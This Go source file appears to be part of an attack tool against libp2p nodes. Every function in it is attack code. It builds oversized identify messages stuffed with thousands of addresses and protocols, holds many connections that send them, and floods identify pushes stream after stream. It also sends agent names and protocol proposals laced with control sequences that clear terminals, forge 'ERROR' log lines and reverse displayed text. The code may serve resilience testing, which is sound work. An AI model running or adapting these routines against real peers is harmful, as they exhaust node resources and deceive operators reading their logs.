package main

import (
	"fmt"
	"strings"

	idpb "github.com/libp2p/go-libp2p/p2p/protocol/identify/pb"
	ma "github.com/multiformats/go-multiaddr"
	"google.golang.org/protobuf/proto"
)

const (
	identifyParts     = 10
	addressesAPart    = 500
	protocolsAPart    = 100
	pushesAWrite      = 8
	controlCharacters = "\x1b[2J\x1b]0;owned\x07\r\nERROR: forged line\x00\u202e"
)

// bomb is an identify message of many parts, each as long as a part may be, full of addresses and protocols.
func bomb(agent string) (parts [][]byte, err error) {
	for part := range identifyParts {
		message := &idpb.Identify{AgentVersion: &agent, ProtocolVersion: &agent}
		for i := range addressesAPart {
			addr := ma.StringCast(fmt.Sprintf("/ip4/10.%d.%d.1/tcp/%d", part, i%250, 1000+i))
			message.ListenAddrs = append(message.ListenAddrs, addr.Bytes())
		}
		for i := range protocolsAPart {
			message.Protocols = append(message.Protocols, fmt.Sprintf("/bomb/%d/%d", part, i))
		}
		bytes, err := proto.Marshal(message)
		if err != nil {
			return nil, err
		}
		parts = append(parts, bytes)
	}
	return parts, nil
}

// bombIdentify joins as a client does, and says thousands of addresses and protocols of itself.
func bombIdentify(a *attacker) error {
	return a.joinSaying("bomb")
}

// floodLog joins under names that clear a terminal and forge lines, asks for protocols of that kind, and breaks off.
func floodLog(a *attacker) error {
	a.answers.AddHandler(kadID, nil)
	return a.joinSaying(strings.Repeat(controlCharacters, 20))
}

func (a *attacker) joinSaying(agent string) error {
	parts, err := bomb(agent)
	if err != nil {
		return err
	}
	held := held{most: a.peers}
	defer held.closeAll()
	a.repeat(holdersAtOnce, func() error {
		c, err := a.identity()
		if err != nil {
			return err
		}
		c.says = parts
		if err := c.connect(); err != nil {
			return err
		}
		held.keep(c.close)
		a.count("connections", 1)
		if agent != "bomb" {
			stream, err := c.connection.OpenStream(a.context())
			if err != nil {
				return err
			}
			stream.Write(proposal("/" + strings.Repeat(controlCharacters, 8)))
		}
		return c.identifyServer()
	})
	return nil
}

// floodPushes pushes a new identify message on stream after stream.
func floodPushes(a *attacker) error {
	parts, err := bomb("push")
	if err != nil {
		return err
	}
	content := append(proposal(string(pushID)), delimited(parts[0])...)
	a.flooding(floodersAtOnce, true, func(s *rawSession) (frames []byte, what string, count int) {
		for range pushesAWrite {
			frames = append(frames, s.stream(content, flagFIN)...)
		}
		return frames, "pushes", pushesAWrite
	})
	return nil
}
